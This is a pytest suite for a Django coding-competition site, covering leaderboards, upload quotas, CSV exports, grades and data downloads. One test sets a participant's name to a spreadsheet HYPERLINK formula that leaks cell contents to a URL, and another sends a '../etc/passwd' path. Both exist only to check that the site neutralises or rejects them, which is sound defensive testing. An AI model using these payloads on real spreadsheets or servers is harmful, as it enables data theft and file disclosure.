"""Pages: competition home, live leaderboard partial, upload, 429 over quota, CSV export, grades, data files."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from competitions.models import Submission
from tests.competitions.conftest import PYMATCHING_DECODER

pytestmark = pytest.mark.django_db


def test_home_shows_rules_timeline_quota_baseline_and_submit(cup, dev, cast, client):
    client.force_login(cast.alice)
    page = client.get(reverse("competitions:home", args=[cup.slug])).content.decode()
    assert "The Decoder Cup" in page and "Development" in page and "Final (hidden noise variation)" in page
    assert "PyMatching (baseline)" in page
    assert "5 of 5 submissions left" in page
    assert 'hx-trigger="every 5s"' in page  # the live leaderboard polls
    assert 'name="file"' in page and "Rules" in page and "Wilson" in page
    assert 'data-plotly="cmp-chart"' in page


def test_list_shows_only_visible_competitions(cup, cast, client):
    client.force_login(cast.alice)
    assert "The Decoder Cup" in client.get(reverse("competitions:list")).content.decode()
    client.force_login(cast.outsider)
    assert "The Decoder Cup" not in client.get(reverse("competitions:list")).content.decode()


@pytest.mark.integration
def test_upload_is_scored_and_appears_on_the_board(dev, cast, client, django_capture_on_commit_callbacks):
    client.force_login(cast.alice)
    url = reverse("competitions:submit", args=[dev.competition.slug, dev.slug])
    with django_capture_on_commit_callbacks(execute=True):
        resp = client.post(url, {"file": SimpleUploadedFile("decoder.py", PYMATCHING_DECODER)})
    assert resp.status_code == 302
    sub = Submission.objects.get(phase=dev, user=cast.alice)
    assert sub.status == "graded", sub.error
    board = client.get(
        reverse("competitions:leaderboard", args=[dev.competition.slug, dev.slug]), HTTP_HX_REQUEST="true"
    )
    html = board.content.decode()
    assert "<html" not in html  # a partial for htmx
    assert "Alice" in html and "cmp-you" in html and "PyMatching (baseline)" in html
    mine = client.get(reverse("competitions:mine", args=[dev.competition.slug, dev.slug])).content.decode()
    assert f">{sub.pk}<" in mine and "Graded" in mine
    detail = client.get(reverse("competitions:submission", args=[dev.competition.slug, sub.pk])).content.decode()
    assert "d=5, p=0.001" in detail and "95% interval" in detail


def test_over_quota_is_429_with_next_allowed_time(dev, cast, client):
    dev.daily_limit, dev.max_running = 1, 5
    dev.save()
    client.force_login(cast.alice)
    url = reverse("competitions:submit", args=[dev.competition.slug, dev.slug])
    client.post(url, {"file": SimpleUploadedFile("decoder.py", PYMATCHING_DECODER)})
    first = Submission.objects.get(phase=dev, user=cast.alice)
    resp = client.post(
        url, {"file": SimpleUploadedFile("decoder.py", PYMATCHING_DECODER)}, HTTP_ACCEPT="application/json"
    )
    assert resp.status_code == 429
    body = resp.json()
    assert "Daily limit" in body["error"]
    assert body["next_allowed_at"] == (first.received_at + timedelta(days=1)).isoformat()
    assert 86000 < int(resp["Retry-After"]) <= 86400
    page = client.post(url, {"file": SimpleUploadedFile("decoder.py", PYMATCHING_DECODER)}, HTTP_HX_REQUEST="true")
    assert page.status_code == 429 and "Next submission allowed at" in page.content.decode()
    assert Submission.objects.filter(phase=dev, user=cast.alice).count() == 1


def test_after_close_the_page_refuses_and_says_so(dev, cast, client):
    dev.ends_at = timezone.now() - timedelta(minutes=1)
    dev.save()
    client.force_login(cast.alice)
    resp = client.post(
        reverse("competitions:submit", args=[dev.competition.slug, dev.slug]),
        {"file": SimpleUploadedFile("decoder.py", PYMATCHING_DECODER)},
    )
    assert resp.status_code == 403 and "closed" in resp.content.decode()
    page = client.get(reverse("competitions:phase", args=[dev.competition.slug, dev.slug])).content.decode()
    assert "submissions are no longer accepted" in page


def test_host_exports_csv_and_maps_grades(dev, cast, client):
    from competitions.services import submission_evaluate, submission_receive

    sub = submission_receive(phase=dev, user=cast.bob, data=PYMATCHING_DECODER, filename="d.py")
    submission_evaluate(submission_id=sub.pk)
    client.force_login(cast.teacher)
    resp = client.get(reverse("competitions:export", args=[dev.competition.slug, dev.slug]))
    rows = list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"))))
    assert resp["Content-Type"].startswith("text/csv")
    assert {r["name"] for r in rows} == {"Bob", "PyMatching (baseline)"}
    bob = next(r for r in rows if r["name"] == "Bob")
    assert bob["private_rank"] == "1" and float(bob["private_score"]) > 0
    grades = client.get(reverse("competitions:grades", args=[dev.competition.slug, dev.slug])).content.decode()
    assert "Bob" in grades and "10.0" in grades
    sheet = client.get(reverse("competitions:grades", args=[dev.competition.slug, dev.slug]) + "?format=csv")
    graded = list(csv.DictReader(io.StringIO(sheet.content.decode("utf-8-sig"))))
    assert [(g["rank"], g["name"], g["points"]) for g in graded] == [("1", "Bob", "10.0")]


HOSTILE = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")'


def test_every_competition_csv_neutralises_a_hostile_display_name(dev, cast, client):
    """OWASP CSV injection: a participant's name that a spreadsheet would run is written as text."""
    from competitions.services import submission_evaluate, submission_receive

    cast.bob.display_name = HOSTILE
    cast.bob.save()
    sub = submission_receive(phase=dev, user=cast.bob, data=PYMATCHING_DECODER, filename="d.py")
    submission_evaluate(submission_id=sub.pk)
    client.force_login(cast.teacher)
    for url in (
        reverse("competitions:export", args=[dev.competition.slug, dev.slug]),
        reverse("competitions:grades", args=[dev.competition.slug, dev.slug]) + "?format=csv",
    ):
        resp = client.get(url)
        assert resp.status_code == 200 and resp.content.startswith("\ufeff".encode()), url
        rows = list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"))))
        names = [r["name"] for r in rows]
        assert "'" + HOSTILE in names, url
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in rows for v in r.values() if v), url


def test_qml_training_data_downloads_and_csv_submission(qml, cast, client, django_capture_on_commit_callbacks):
    phase = qml.phases.get()
    phase.submission_kind = "predictions"
    phase.save()
    client.force_login(cast.alice)
    train = client.get(reverse("competitions:data", args=[qml.slug, phase.slug, "train.csv"]))
    assert b"".join(train.streaming_content).startswith(b"id,x0,x1,label")
    assert client.get(reverse("competitions:data", args=[qml.slug, phase.slug, "labels.npz"])).status_code == 404
    test_rows = b"id,label\n" + b"".join(f"{i},{i % 2}\n".encode() for i in range(4000))
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("competitions:submit", args=[qml.slug, phase.slug]),
            {"file": SimpleUploadedFile("p.csv", test_rows)},
        )
    sub = Submission.objects.get(phase=phase, user=cast.alice)
    assert sub.status == "graded" and 0.3 < sub.public_score < 0.7
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("competitions:submit", args=[qml.slug, phase.slug]),
            {"file": SimpleUploadedFile("p.csv", b"id,label\n0,1\n")},
        )
    bad = Submission.objects.filter(phase=phase, user=cast.alice).order_by("-pk").first()
    assert bad.status == "error" and "3999 test ids have no prediction" in bad.error and bad.public_score is None


def test_submit_from_lab_without_a_running_lab_says_so(dev, cast, client):
    client.force_login(cast.alice)
    url = reverse("competitions:submit", args=[dev.competition.slug, dev.slug])
    resp = client.post(url, {"lab_path": "competitions/decoder-cup/entry.py"}, HTTP_ACCEPT="application/json")
    assert resp.status_code in (409, 503)
    assert "lab" in resp.json()["error"]
    assert client.post(url, {"lab_path": "../etc/passwd"}, HTTP_ACCEPT="application/json").status_code == 400
    assert not Submission.objects.filter(phase=dev, user=cast.alice).exists()


def test_pages_speak_simplified_chinese(cup, cast, client):
    from django.conf import settings

    client.force_login(cast.alice)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "zh-hans"
    page = client.get(reverse("competitions:home", args=[cup.slug])).content.decode()
    assert "解码器杯" in page and "排行榜" in page and "我的提交" in page and "公开排行榜" in page
    assert "公开声明的" in page  # the rules, in Chinese too


def test_course_activity_points_at_its_competition(cup, world):
    from competitions.selectors import competition_for_activity
    from courses.enums import ActivityKind
    from tests.factories import ActivityFactory

    act = ActivityFactory(
        unit=world.lesson.unit, slug="cup", kind=ActivityKind.COMPETITION, options={"competition": "decoder-cup"}
    )
    assert competition_for_activity(activity=act) == cup
    other = ActivityFactory(
        unit=world.other_activity.unit,
        slug="cup2",
        kind=ActivityKind.COMPETITION,
        options={"competition": "decoder-cup"},
    )
    assert competition_for_activity(activity=other) is None  # another course's competition
